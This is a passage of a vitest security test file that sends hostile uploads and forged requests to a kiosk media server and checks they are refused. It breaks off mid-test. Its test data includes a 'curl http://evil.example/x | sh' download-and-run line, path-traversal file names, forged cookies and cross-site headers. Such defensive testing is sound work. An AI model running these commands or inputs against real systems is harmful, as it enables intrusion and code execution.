/**
 * Hostile HTTP clients against the real host: the built `openness-kiosk serve`, on a real port,
 * with a real data folder in a temporary sandbox.
 *
 * Uploads (signed in as staff, through `/api/call/media:upload-*`): files whose bytes are not an
 * accepted type whatever their name or Content-Type says, files just over the size limits of
 * host/media/limits.ts (streamed, never held whole), truncated and empty files, malformed requests,
 * and uploads without a live staff session. Each is refused with a 4xx and a message, and leaves no
 * trace: no new file in the data folder, no part file, the media index unchanged, nothing outside
 * the data folder. A name is only ever a display name (the file is stored under its sha256), so a
 * hostile name on real picture bytes is accepted, stored under the hash and shown cleaned; that is
 * what is tested for names. Valid uploads still work at the end.
 *
 * Staff PIN: wrong PINs one by one and all at once, from one address with forged forwarding headers
 * and odd spellings of the route, and from many loopback addresses (which do dodge the per-address
 * rate limit): the lock-out holds for the source that earned it (other addresses keep their own
 * count), even the right PIN is refused, every refusal says locked and for how long, and the
 * lock-out survives a SIGKILL and a restart on the same data folder. Then every
 * call that returns data, signed in and out, the error replies, the event stream's first message,
 * a published bundle and the host's log are scanned: the PIN's hash and salt never leave the host.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rename, rm, stat, writeFile } from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callNames, type AdminState, type FleetStatus, type MediaItem } from '../core/contract.js';
import { DEFAULT_LIMITS } from '../host/media/limits.js';
import {
  executableHeader,
  fixture,
  makeExe,
  makePng,
  makeSvg,
  makeVtt,
} from '../host/media/test-files.js';
import {
  killHost,
  PIN,
  requireBuiltHost,
  ROOT,
  startServe,
  type HostProcess,
} from './support/host-process.js';

const MiB = 1024 * 1024;
const CHUNK = DEFAULT_LIMITS.chunkSize;

// ---------------------------------------------------------------------------------------------
// Raw HTTP: node:http rather than fetch, for exact paths, any header, a chosen source address and
// bodies streamed with back-pressure.

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  json: unknown;
}

interface RawRequest {
  method?: 'GET' | 'POST';
  /** Sent exactly as written: no `..` or `%` normalisation. */
  path: string;
  headers?: Record<string, string>;
  body?: Buffer | string;
  /**
   * A body sent piece by piece, waiting for `drain`, until the reply comes; the request is left
   * open after the last piece (the host must answer without waiting for the rest).
   */
  stream?: Iterable<Buffer>;
  /** The loopback address to connect from (each one is a separate address to rate limits). */
  localAddress?: string;
}

/** Every reply of the current host, for the scan for PIN secrets. */
let transcript: { label: string; reply: Reply }[] = [];

function send(base: string, request: RawRequest): Promise<Reply> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = http.request(
      {
        hostname,
        port,
        path: request.path,
        method: request.method ?? 'POST',
        headers: request.headers,
        localAddress: request.localAddress,
        agent: false,
      },
      (response) => {
        answered = true;
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('error', reject);
        response.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            text,
            json: json(text),
          });
          req.destroy();
        });
      },
    );
    // Once the host has answered (a 413 half-way through a body), a broken pipe is expected.
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    if (request.stream) void pump(req, request.stream, () => answered);
    else req.end(request.body);
  });
}

async function pump(req: http.ClientRequest, pieces: Iterable<Buffer>, answered: () => boolean) {
  for (const piece of pieces) {
    if (answered() || req.destroyed) return;
    if (!req.write(piece)) {
      await new Promise<void>((resolve) => {
        req.once('drain', resolve);
        req.once('close', resolve);
      });
    }
  }
}

function json(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

/** The session id a reply sets ('' when it clears the cookie), or undefined. */
function sessionSetBy(reply: Reply): string | undefined {
  return [reply.headers['set-cookie'] ?? []]
    .flat()
    .map((line) => /^kiosk_session=([^;]*)/.exec(line)?.[1])
    .find((value) => value !== undefined);
}

/** A client of the API that keeps its staff session cookie, like a browser. */
class Client {
  cookie: string | undefined;

  constructor(
    readonly url: string,
    readonly localAddress?: string,
  ) {}

  async request(label: string, request: RawRequest): Promise<Reply> {
    const headers = { ...(this.cookie ? { cookie: this.cookie } : {}), ...request.headers };
    const reply = await send(this.url, { localAddress: this.localAddress, ...request, headers });
    const session = sessionSetBy(reply);
    if (session !== undefined) this.cookie = session ? `kiosk_session=${session}` : undefined;
    transcript.push({ label, reply });
    return reply;
  }

  /** A contract call with a JSON body (none when `input` is undefined). */
  call(name: string, input?: unknown, headers: Record<string, string> = {}): Promise<Reply> {
    const body = input === undefined ? undefined : JSON.stringify(input);
    return this.request(name, {
      path: `/api/call/${name}`,
      headers: body === undefined ? headers : { 'content-type': 'application/json', ...headers },
      body,
    });
  }

  /** An upload chunk as the admin sends it: raw bytes, its upload and offset in the query. */
  chunk(
    uploadId: string,
    offset: number | string,
    bytes: Buffer,
    headers: Record<string, string> = {},
  ): Promise<Reply> {
    return this.request('media:upload-chunk', {
      path: `/api/call/media:upload-chunk?uploadId=${encodeURIComponent(uploadId)}&offset=${offset}`,
      headers: { 'content-type': 'application/octet-stream', ...headers },
      body: bytes,
    });
  }

  get(route: string): Promise<Reply> {
    return this.request(`GET ${route}`, { method: 'GET', path: route });
  }
}

interface ErrorFields {
  code?: string;
  message: string;
  problems?: { path: string; message: string }[];
  details?: Record<string, unknown>;
}

/** A refusal's fields: the API's own `{ error: {...} }`, or Fastify's `{ message }` (413, 415). */
function errorOf(reply: Reply): ErrorFields {
  const body = reply.json as { error?: unknown; message?: unknown } | undefined;
  if (body && typeof body.error === 'object' && body.error !== null) {
    return body.error as ErrorFields;
  }
  return { message: typeof body?.message === 'string' ? body.message : reply.text };
}

function expectRefused(reply: Reply, status: number, message: RegExp, what: string): void {
  expect(reply.status, `${what}: ${reply.text}`).toBe(status);
  expect(errorOf(reply).message, what).toMatch(message);
}

// ---------------------------------------------------------------------------------------------
// Files to upload, made piece by piece so that big ones are never held whole.

interface Source {
  size: number;
  read(offset: number, length: number): Buffer;
}

type Part = Buffer | { fill: number; length: number };

/** The concatenation of some bytes and runs of one byte value. */
function joined(parts: Part[]): Source {
  const size = parts.reduce((sum, part) => sum + part.length, 0);
  return {
    size,
    read(offset, length) {
      const end = Math.min(size, offset + length);
      const out: Buffer[] = [];
      let at = 0;
      for (const part of parts) {
        const from = Math.max(offset, at);
        const to = Math.min(end, at + part.length);
        if (from < to) {
          out.push(
            Buffer.isBuffer(part)
              ? part.subarray(from - at, to - at)
              : Buffer.alloc(to - from, part.fill),
          );
        }
        at += part.length;
      }
      return Buffer.concat(out);
    },
  };
}

const sourceOf = (data: Buffer | Source): Source => (Buffer.isBuffer(data) ? joined([data]) : data);

/** A valid PNG of exactly `size` bytes: a small picture padded with a private ancillary chunk. */
function pngOfSize(size: number, seed: number): Source {
  const small = makePng(8, 6, seed);
  const iend = small.subarray(small.length - 12);
  const head = small.subarray(0, small.length - 12);
  const padding = size - head.length - 12 - iend.length;
  const type = Buffer.from('prVt', 'latin1'); // ancillary, private, safe to copy
  const length = Buffer.alloc(4);
  length.writeUInt32BE(padding);
  let crc = crc32(type);
  const zeros = Buffer.alloc(MiB);
  for (let left = padding; left > 0; left -= zeros.length) {
    crc = crc32(zeros.subarray(0, Math.min(left, zeros.length)), crc);
  }
  const crcBytes = Buffer.alloc(4);
  crcBytes.writeUInt32BE(crc);
  return joined([head, length, type, { fill: 0, length: padding }, crcBytes, iend]);
}

function sha256Of(data: Buffer | Source): string {
  const source = sourceOf(data);
  const hash = createHash('sha256');
  for (let offset = 0; offset < source.size; offset += MiB) hash.update(source.read(offset, MiB));
  return hash.digest('hex');
}

/** Bytes of no accepted type: refused when an upload of them finishes. */
const junk = (length: number) => Buffer.alloc(length, 'A');

interface Outcome {
  step: 'begin' | 'chunk' | 'finish';
  reply: Reply;
  uploadId?: string;
}

/** Upload as the admin does: begin, chunks of the size the host asks for, finish. */
async function upload(
  client: Client,
  name: string,
  data: Buffer | Source,
  declaredSize?: number,
): Promise<Outcome> {
  const source = sourceOf(data);
  const begin = await client.call('media:upload-begin', {
    name,
    size: declaredSize ?? source.size,
  });
  if (begin.status !== 200) return { step: 'begin', reply: begin };
  const { uploadId, chunkSize } = begin.json as { uploadId: string; chunkSize: number };
  for (let offset = 0; offset < source.size; offset += chunkSize) {
    const chunk = await client.chunk(uploadId, offset, source.read(offset, chunkSize));
    if (chunk.status !== 200) return { step: 'chunk', reply: chunk, uploadId };
  }
  const finish = await client.call('media:upload-finish', { uploadId });
  return { step: 'finish', reply: finish, uploadId };
}

/** Start an upload and return its id (for requests that go wrong half-way). */
async function begin(client: Client, name: string, size: number): Promise<string> {
  const reply = await client.call('media:upload-begin', { name, size });
  expect(reply.status, reply.text).toBe(200);
  return (reply.json as { uploadId: string }).uploadId;
}

/** End an upload left in progress on purpose (four in progress block a fifth): cancel it. */
async function release(client: Client, uploadId: string) {
  const cancel = await client.call('media:upload-cancel', { uploadId });
  expect(cancel.status, cancel.text).toBe(200);
  const again = await client.call('media:upload-cancel', { uploadId });
  expectRefused(again, 404, /not in progress/, 'cancelling twice');
}

// ---------------------------------------------------------------------------------------------
// The data folder and what is around it.

/** Every file and folder under `root`: `path/` for folders, `size mtime` for files. */
async function tree(root: string, prefix = '', out: Record<string, string> = {}) {
  for (const entry of await readdir(root, { withFileTypes: true })) {
    const rel = `${prefix}${entry.name}`;
    const full = path.join(root, entry.name);
    if (entry.isDirectory()) {
      out[`${rel}/`] = 'folder';
      await tree(full, `${rel}/`, out);
    } else {
      const info = await stat(full).catch(() => undefined);
      if (info) out[rel] = `${info.size} bytes, mtime ${info.mtimeMs}`;
    }
  }
  return out;
}

interface Snapshot {
  /** The sandbox around the data folder. */
  outside: Record<string, string>;
  /** The data folder, but for the host's log. */
  data: Record<string, string>;
  /** The text of media/index.json, or null while there is none. */
  index: string | null;
}

async function snapshot(sandbox: string, dataDir: string): Promise<Snapshot> {
  const dataRel = `${path.relative(sandbox, dataDir).split(path.sep).join('/')}/`;
  const all = await tree(sandbox);
  const outside = Object.fromEntries(
    Object.entries(all).filter(([rel]) => !rel.startsWith(dataRel)),
  );
  const data = Object.fromEntries(
    Object.entries(await tree(dataDir)).filter(([rel]) => !rel.startsWith('logs/')),
  );
  const index = await readFile(path.join(dataDir, 'media', 'index.json'), 'utf8').catch(() => null);
  return { outside, data, index };
}

// =============================================================================================

describe('uploads from hostile clients', () => {
  let sandbox = '';
  let dataDir = '';
  let host: HostProcess | undefined;
  let staff: Client;
  let first: Snapshot;
  const snap = () => snapshot(sandbox, dataDir);

  /** Nothing at all changed in or around the data folder (but for the log). */
  async function expectNoTrace(before: Snapshot, what: string): Promise<void> {
    const after = await snap();
    expect(after.outside, `${what}: outside the data folder`).toEqual(before.outside);
    expect(after.index, `${what}: the media index`).toBe(before.index);
    expect(after.data, `${what}: the data folder`).toEqual(before.data);
  }

  /** The only change is `files` added to media/ and listed in its index. */
  async function expectOnlyNewMedia(before: Snapshot, files: string[], what: string) {
    const after = await snap();
    expect(after.outside, `${what}: outside the data folder`).toEqual(before.outside);
    const { ['media/index.json']: _was, ...expected } = before.data;
    const { ['media/index.json']: _is, ...actual } = after.data;
    for (const file of files) {
      expect(actual[`media/${file}`], `${what}: media/${file}`).toBeDefined();
      delete actual[`media/${file}`];
      delete expected[`media/${file}`];
    }
    expect(actual, `${what}: the data folder`).toEqual(expected);
    const listed = (JSON.parse(after.index ?? '[]') as MediaItem[]).map((item) => item.ref);
    for (const file of files) expect(listed, what).toContain(`media:${file}`);
  }

  const fileOf = (reply: Reply) => (reply.json as MediaItem).ref.slice('media:'.length);

  beforeAll(async () => {
    requireBuiltHost();
    sandbox = await mkdtemp(path.join(os.tmpdir(), 'kiosk-fault-http-'));
    // Deep enough that `../../..` from media/ or uploads/ still lands inside the sandbox.
    dataDir = path.join(sandbox, 'l1', 'l2', 'l3', 'data');
    await mkdir(dataDir, { recursive: true });
    host = await startServe(dataDir);
    transcript = [];
    staff = new Client(host.url);
    const created = await staff.call('auth:create-pin', { pin: PIN });
    expect(created.status, created.text).toBe(200);
    expect(staff.cookie).toBeDefined();
    first = await snap();
  });

  afterAll(async () => {
    if (host) await killHost(host);
    if (sandbox) await rm(sandbox, { recursive: true, force: true });
  });

  it('refuses uploads without a live staff session, from other sites, or by another host name', async () => {
    const before = await snap();
    const locked = /^Staff access is locked\. Unlock it with the staff PIN\.$/;
    const png = makePng(8, 6, 1);

    // Signed out.
    const anon = new Client(host!.url);
    expectRefused(
      await anon.call('media:upload-begin', { name: 'a.png', size: png.length }),
      401,
      locked,
      'begin, signed out',
    );

    // A staff upload in progress, which others try to write into or finish.
    const uploadId = await begin(staff, 'real.png', 1000);
    expectRefused(await anon.chunk(uploadId, 0, png), 401, locked, 'chunk, signed out');
    expectRefused(
      await anon.call('media:upload-finish', { uploadId }),
      401,
      locked,
      'finish, signed out',
    );

    // Forged cookies: guessed, malformed, oversized, a real one with one letter changed.
    const real = staff.cookie!.slice('kiosk_session='.length);
    const altered = real.slice(0, -1) + (real.endsWith('A') ? 'B' : 'A');
    for (const fake of [
      randomBytes(32).toString('base64url'),
      altered,
      'x'.repeat(16),
      'a'.repeat(129),
      '../../auth.json',
      'null',
      '',
      `${real}%00`,
      real.toUpperCase(),
    ]) {
      const client = new Client(host!.url);
      client.cookie = `kiosk_session=${fake}`;
      const what = `forged cookie ${JSON.stringify(fake.slice(0, 20))}`;
      expectRefused(
        await client.call('media:upload-begin', { name: 'a.png', size: 10 }),
        401,
        locked,
        what,
      );
      expectRefused(await client.chunk(uploadId, 0, png), 401, locked, what);
    }

    // A stale cookie: the session was ended with Lock.
    const other = new Client(host!.url);
    expect((await other.call('auth:unlock', { pin: PIN })).status).toBe(200);
    const stale = other.cookie!;
    expect((await other.call('auth:lock')).status).toBe(200);
    expect(other.cookie).toBeUndefined();
    other.cookie = stale;
    expectRefused(
      await other.call('media:upload-begin', { name: 'a.png', size: 10 }),
      401,
      locked,
      'begin, stale cookie',
    );
    expectRefused(await other.chunk(uploadId, 0, png), 401, locked, 'chunk, stale cookie');

    // With the live cookie, but from a page on another site (CSRF), or through a foreign host
    // name (DNS rebinding).
    const refusedSite = /^Requests from other sites are refused\.$/;
    const crossSite: Record<string, string>[] = [
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
    ];
    for (const headers of crossSite) {
      const what = `cross-site ${JSON.stringify(headers)}`;
      expectRefused(await staff.chunk(uploadId, 0, png, headers), 403, refusedSite, what);
      expectRefused(
        await staff.call('media:upload-begin', { name: 'a.png', size: 10 }, headers),
        403,
        refusedSite,
        what,
      );
    }
    expectRefused(
      await staff.chunk(uploadId, 0, png, { host: 'evil.example' }),
      403,
      /answers only to 127\.0\.0\.1 or localhost/,
      'a foreign Host header',
    );

    // None of that wrote a byte: the upload still starts at offset 0.
    await release(staff, uploadId);
    await expectNoTrace(before, 'uploads without a live session');
  });

  it('stores hostile names only as cleaned display names, under the sha256 of the bytes', async () => {
    const before = await snap();
    const names: [raw: string, shown: string][] = [
      ['../../etc/passwd', 'passwd'],
      ['..\\..\\windows\\win.ini', 'win.ini'],
      ['/etc/shadow', 'shadow'],
      ['C:\\Windows\\System32\\drivers\\etc\\hosts', 'hosts'],
      ['\\\\attacker\\share\\payload.png', 'payload.png'],
      ['file:///etc/passwd', 'passwd'],
      ['../../../../../../../../tmp/kiosk-escape.png', 'kiosk-escape.png'],
      ['photo\u0000.png', 'photo.png'],
      ['evil\u0000/../../x.png', 'x.png'],
      ['invoice\u202egnp.exe', 'invoicegnp.exe'],
      ['\u2066report\u2069.png\u200f', 'report.png'],
      ['line\r\nbreak\t.png', 'linebreak.png'],
      ['index.json', 'index.json'],
      ['../index.json', 'index.json'],
      ['../../auth.json', 'auth.json'],
      ['../settings.json', 'settings.json'],
      [
        '../uploads/00000000-0000-4000-8000-000000000000.part',
        '00000000-0000-4000-8000-000000000000.part',
      ],
      ['..', 'untitled'],
      ['', 'untitled'],
      ['  \u202e ', 'untitled'],
      ['%2e%2e%2fetc%2fpasswd', '%2e%2e%2fetc%2fpasswd'],
      [`${'a'.repeat(251)}.png`, `${'a'.repeat(251)}.png`],
    ];
    const stored: string[] = [];
    for (const [index, [raw, shown]] of names.entries()) {
      const png = makePng(8, 6, 100 + index);
      const { step, reply } = await upload(staff, raw, png);
      const what = `name ${JSON.stringify(raw)}`;
      expect(step, what).toBe('finish');
      expect(reply.status, `${what}: ${reply.text}`).toBe(200);
      const item = reply.json as MediaItem;
      expect(item, what).toMatchObject({
        ref: `media:${sha256Of(png)}.png`,
        kind: 'image',
        mime: 'image/png',
        size: png.length,
        name: shown,
      });
      stored.push(fileOf(reply));
    }
    await expectOnlyNewMedia(before, stored, 'hostile names');
    // The index is still the library's list, whatever the names said.
    const after = await snap();
    const index = JSON.parse(after.index!) as MediaItem[];
    expect(index.map((item) => item.name)).toEqual(expect.arrayContaining(names.map((n) => n[1])));
    for (const name of ['passwd', 'win.ini', 'shadow', 'hosts', 'kiosk-escape.png', 'x.png']) {
      expect(existsSync(path.join(ROOT, name)), `${name} beside the app`).toBe(false);
    }

    // Names that are not names at all, or too long, are refused before anything is written.
    const refusedNames = await snap();
    for (const name of [
      `${'a'.repeat(252)}.png`,
      `${'😀'.repeat(252)}.png`,
      ['a.png', 'b.png'],
      { path: '../../etc/passwd' },
      null,
      42,
    ]) {
      const reply = await staff.call('media:upload-begin', { name, size: 100 });
      expectRefused(reply, 400, /Some values are not valid/, `name ${JSON.stringify(name)}`);
      expect(errorOf(reply).problems?.[0]?.path).toBe('$.name');
    }
    await expectNoTrace(refusedNames, 'refused names');
  });

  it('refuses files whose bytes are not an accepted type, whatever their name or label says', async () => {
    const unknownType = /^This file's type could not be recognised\. Accepted are /;
    const notAccepted = /^This file is .+, which is not accepted\. Accepted are /;
    const svg = /^SVG files can carry scripts, so they are not accepted/;
    const html =
      '<!doctype html><html><body><script>fetch("/api/call/admin:get")</script></body></html>';
    const cases: [name: string, bytes: Buffer, message: RegExp][] = [
      ['photo.png', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'), unknownType],
      ['../../etc/passwd', Buffer.from('root:x:0:0:root:/root:/bin/bash\n'), unknownType],
      ['banner.jpg', Buffer.from(html), unknownType],
      ['../../index.html', Buffer.from(html.repeat(100)), unknownType],
      ['index.json', Buffer.from('[]\n'), unknownType],
      ['logo.png', makeSvg(), svg],
      ['logo.svg', makeSvg(false), svg],
      ['logo.webp', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0x20, 0x0a]), makeSvg()]), svg],
      ['movie.mp4', executableHeader(), notAccepted],
      ['picture.jpg', makeExe(), notAccepted],
      [
        'poster.png',
        Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
        notAccepted,
      ],
      ['anim.png', Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(400, 1)]), notAccepted],
      [
        'clip.webm',
        Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), Buffer.alloc(400)]),
        notAccepted,
      ],
    ];
    for (const [name, bytes, message] of cases) {
      const before = await snap();
      const { reply } = await upload(staff, name, bytes);
      const what = `${name} (${bytes.subarray(0, 12).toString('latin1')}...)`;
      expectRefused(reply, 415, message, what);
      expect(errorOf(reply).code, what).toBe('unsupported-type');
      await expectNoTrace(before, what);
    }

    // Labelled as a picture by the HTTP Content-Type, or sent as a form with two files: the host
    // takes upload chunks only as application/octet-stream.
    const before = await snap();
    const uploadId = await begin(staff, 'labelled.png', 500);
    for (const type of ['image/png', 'video/mp4', 'text/html', 'image/svg+xml']) {
      expectRefused(
        await staff.chunk(uploadId, 0, Buffer.from(html), { 'content-type': type }),
        415,
        /Unsupported Media Type/,
        `a chunk labelled ${type}`,
      );
    }
    const boundary = 'kiosk-boundary';
    const form = Buffer.from(
      [
        `--${boundary}`,
        'Content-Disposition: form-data; name="file"; filename="../../a.png"',
        'Content-Type: image/png',
        '',
        html,
        `--${boundary}`,
        'Content-Disposition: form-data; name="file"; filename="b.png"',
        'Content-Type: image/png',
        '',
        html,
        `--${boundary}--`,
        '',
      ].join('\r\n'),
    );
    const multipart = { 'content-type': `multipart/form-data; boundary=${boundary}` };
    expectRefused(
      await staff.chunk(uploadId, 0, form, multipart),
      415,
      /Unsupported Media Type/,
      'a chunk sent as a form with two files',
    );
    expectRefused(
      await staff.request('media:upload-begin', {
        path: '/api/call/media:upload-begin',
        headers: multipart,
        body: form,
      }),
      415,
      /Unsupported Media Type/,
      'a begin sent as a form with two files',
    );
    // Bytes inside JSON are not bytes.
    expectRefused(
      await staff.call('media:upload-chunk', {
        uploadId,
        offset: 0,
        bytes: [...makePng()],
      }),
      400,
      /Some values are not valid/,
      'a chunk as a JSON array',
    );
    await release(staff, uploadId);
    await expectNoTrace(before, 'mislabelled requests');

    // The bytes decide, never the name: a PNG named .mp4 is stored and served as a PNG, and a
    // PNG with HTML after its end is served as image/png that browsers must not sniff.
    const accepted = await snap();
    const stored: string[] = [];
    const polyglot = Buffer.concat([makePng(8, 6, 201), Buffer.from(html)]);
    for (const [name, bytes] of [
      ['clip.mp4', makePng(8, 6, 200)],
      ['page.html', polyglot],
    ] as const) {
      const { reply } = await upload(staff, name, bytes);
      expect(reply.status, `${name}: ${reply.text}`).toBe(200);
      expect(reply.json).toMatchObject({ kind: 'image', mime: 'image/png', name });
      const file = fileOf(reply);
      expect(file).toBe(`${sha256Of(bytes)}.png`);
      const served = await staff.get(`/media/${file}`);
      expect(served.status).toBe(200);
      expect(served.headers['content-type']).toBe('image/png');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['content-security-policy']).toContain("default-src 'self'");
      stored.push(file);
    }
    await expectOnlyNewMedia(accepted, stored, 'PNG bytes under other names');
  });

  it('refuses files over the size limits early, and bodies over the request limit', async () => {
    const { image, video, captions } = DEFAULT_LIMITS;
    const over = /the limit for (pictures|videos|captions files) is \d+(\.\d+)? MB$/;

    // Bigger than any kind may be: refused before a byte is sent.
    let before = await snap();
    const huge = await staff.call('media:upload-begin', { name: 'film.mp4', size: video + 1 });
    expectRefused(huge, 413, over, 'a video one byte over the limit');
    expect(errorOf(huge).message).toMatch(/the limit for videos is 500 MB$/);
    expect(errorOf(huge).details).toEqual({ limit: video });
    for (const size of [0, -1, 1.5, '100', 1e300, Number.MAX_SAFE_INTEGER + 2, null]) {
      const reply = await staff.call('media:upload-begin', { name: 'x.png', size });
      expectRefused(reply, 400, /Some values are not valid/, `size ${size}`);
      expect(errorOf(reply).problems?.[0]?.path).toBe('$.size');
    }
    await expectNoTrace(before, 'sizes refused at begin');

    // One byte over a kind's limit: refused at the first chunk, once the bytes say what it is;
    // the rest of the file is never read, and the upload is over.
    for (const [name, source, limit] of [
      ['poster.png', pngOfSize(image + 1, 300), /the limit for pictures is 25 MB$/],
      [
        'subtitles.vtt',
        joined([makeVtt(), { fill: 0x41, length: captions + 1 - makeVtt().length }]),
        /the limit for captions files is 1 MB$/,
      ],
    ] as const) {
      before = await snap();
      const { step, reply, uploadId } = await upload(staff, name, source);
      expect(step, name).toBe('chunk');
      expectRefused(reply, 413, limit, `${name}, one byte over`);
      expect(errorOf(reply).code).toBe('too-large');
      const next = await staff.chunk(uploadId!, CHUNK, source.read(CHUNK, CHUNK));
      expectRefused(next, 404, /This upload is not in progress/, `${name}: the next chunk`);
      await expectNoTrace(before, `${name}, one byte over`);
    }

    // Between the picture and video limits, of no known type: streamed to the end, then refused,
    // and its 26 MiB part file is removed.
    before = await snap();
    const unknown = joined([{ fill: 0x41, length: image + MiB }]);
    const streamed = await upload(staff, 'big.bin.png', unknown);
    expect(streamed.step).toBe('finish');
    expectRefused(streamed.reply, 415, /could not be recognised/, 'a 26 MiB file of no known type');
    await expectNoTrace(before, 'a 26 MiB file of no known type');

    // A client that sends more than it declared, or chunks bigger than the host asked for.
    before = await snap();
    let uploadId = await begin(staff, 'liar.png', 1000);
    expectRefused(
      await staff.chunk(uploadId, 0, junk(1001)),
      400,
      /goes past the declared size of 1000 bytes/,
      'more bytes than declared',
    );
    await release(staff, uploadId);
    uploadId = await begin(staff, 'wide.png', 2 * CHUNK);
    expectRefused(
      await staff.chunk(uploadId, 0, junk(CHUNK + 1)),
      400,
      new RegExp(`A chunk must be at most ${CHUNK} bytes`),
      'a chunk over the chunk size',
    );

    // Request bodies over the HTTP limit, streamed: with a Content-Length that says so, and
    // chunked with none. The host answers 413 without reading them all.
    // The stream stops a little past the limit and stays open (more bytes would only meet a
    // closed connection): the host must answer without waiting for the end.
    const piece = Buffer.alloc(64 * 1024, 0x42);
    const pieces = function* (total: number) {
      for (let sent = 0; sent < total; sent += piece.length) yield piece;
    };
    for (const withLength of [true, false]) {
      const headers: Record<string, string> = { 'content-type': 'application/octet-stream' };
      if (withLength) headers['content-length'] = String(64 * MiB);
      const reply = await staff.request('media:upload-chunk', {
        path: `/api/call/media:upload-chunk?uploadId=${uploadId}&offset=0`,
        headers,
        stream: pieces(withLength ? piece.length : 2 * MiB + 4 * piece.length),
      });
      expectRefused(
        reply,
        413,
        /Request body is too large/,
        withLength ? 'a body that says it is 64 MiB' : 'a chunked body past 2 MiB',
      );
    }
    // Still nothing received: the upload goes on from offset 0.
    await release(staff, uploadId);
    await expectNoTrace(before, 'oversized chunks and bodies');

    // Exactly at the picture limit is fine: the limits are where limits.ts says.
    before = await snap();
    const atLimit = pngOfSize(image, 301);
    const fits = await upload(staff, 'exactly-25-MB.png', atLimit);
    expect(fits.reply.status, fits.reply.text).toBe(200);
    expect(fits.reply.json).toMatchObject({ size: image, mime: 'image/png' });
    expect(fileOf(fits.reply)).toBe(`${sha256Of(atLimit)}.png`);
    await expectOnlyNewMedia(before, [fileOf(fits.reply)], 'a picture at the limit');
  });

  it('refuses empty files and files too short to be what they start like', async () => {
    const before = await snap();
    const empty = await staff.call('media:upload-begin', { name: 'empty.png', size: 0 });
    expectRefused(empty, 400, /Some values are not valid/, 'an empty file');
    expect(errorOf(empty).problems?.[0]?.path).toBe('$.size');

    const png = makePng(16, 16, 400);
    const cases: [string, Buffer][] = [
      ['one-byte.png', Buffer.from([0x89])],
      ['signature-only.png', png.subarray(0, 8)],
      ['signature-and-length.png', png.subarray(0, 12)],
      ['soi-only.jpg', fixture('canvas.jpg').subarray(0, 2)],
      ['box-header.mp4', fixture('recorded.mp4').subarray(0, 8)],
      ['ebml-start.webm', fixture('recorded.webm').subarray(0, 16)],
      ['riff-only.webp', fixture('canvas.webp').subarray(0, 4)],
      ['zeros.mp4', Buffer.alloc(4096)],
    ];
    for (const [name, bytes] of cases) {
      const { step, reply } = await upload(staff, name, bytes);
      expect(step, name).toBe('finish');
      expectRefused(reply, 415, /could not be recognised/, name);
    }

    // Finishing before every byte has arrived is refused; the upload can go on.
    const uploadId = await begin(staff, 'half.png', png.length);
    const half = Math.floor(png.length / 2);
    expect((await staff.chunk(uploadId, 0, junk(half))).status).toBe(200);
    expectRefused(
      await staff.call('media:upload-finish', { uploadId }),
      400,
      new RegExp(`ended at ${half} of ${png.length} bytes`),
      'finish half-way',
    );
    await release(staff, uploadId);
    await expectNoTrace(before, 'empty and too-short files');
  });

  // The type is judged by the first bytes (file-type); the container's own lengths are then
  // walked to the end of the file (structure.ts), so a file cut after its header is refused.
  it('refuses pictures and videos cut short after their header', async () => {
    const before = await snap();
    const png = makePng(64, 64, 500);
    const jpg = fixture('canvas.jpg');
    const mp4 = fixture('recorded.mp4');
    const webm = fixture('recorded.webm');
    const webp = fixture('canvas.webp');
    const accepted: string[] = [];
    for (const [name, bytes] of [
      ['half.png', png.subarray(0, png.length >> 1)],
      ['header-only.png', png.subarray(0, 33)],
      ['half.jpg', jpg.subarray(0, jpg.length >> 1)],
      ['three-bytes.jpg', jpg.subarray(0, 3)],
      ['half.mp4', mp4.subarray(0, mp4.length >> 1)],
      ['ftyp-only.mp4', mp4.subarray(0, 32)],
      ['half.webm', webm.subarray(0, webm.length >> 1)],
      ['half.webp', webp.subarray(0, webp.length >> 1)],
    ] as const) {
      const { reply } = await upload(staff, name, bytes);
      if (reply.status < 400 || reply.status >= 500) accepted.push(`${name} (${reply.status})`);
      else if (bytes.length > 3) expectRefused(reply, 400, /is incomplete or damaged: /, name);
    }
    expect(accepted, 'truncated files the host accepted').toEqual([]);
    await expectNoTrace(before, 'truncated files');
  });

  it('refuses malformed upload requests: no file, several files, bad ids and offsets', async () => {
    const before = await snap();
    const invalid = /Some values are not valid/;
    for (const [what, body] of [
      ['no body', undefined],
      ['an empty object', {}],
      ['no name', { size: 100 }],
      ['no size', { name: 'a.png' }],
      [
        'two files',
        [
          { name: 'a.png', size: 10 },
          { name: 'b.png', size: 10 },
        ],
      ],
      ['a string', 'a.png'],
    ] as const) {
      expectRefused(await staff.call('media:upload-begin', body), 400, invalid, `begin: ${what}`);
    }
    expectRefused(
      await staff.request('media:upload-begin', {
        path: '/api/call/media:upload-begin',
        headers: { 'content-type': 'application/json' },
        body: '{"name": "a.png", "size": ',
      }),
      400,
      /JSON/,
      'begin: broken JSON',
    );

    const uploadId = await begin(staff, 'target.png', 300);
    const notInProgress = /^This upload is not in progress/;
    for (const [what, id, offset, status, message] of [
      ['no upload id', '', '0', 404, notInProgress],
      ['a path as upload id', '../../etc/passwd', '0', 404, notInProgress],
      ['an id with a part suffix', `${uploadId}.part`, '0', 404, notInProgress],
      ['an unknown id', '00000000-0000-4000-8000-000000000000', '0', 404, notInProgress],
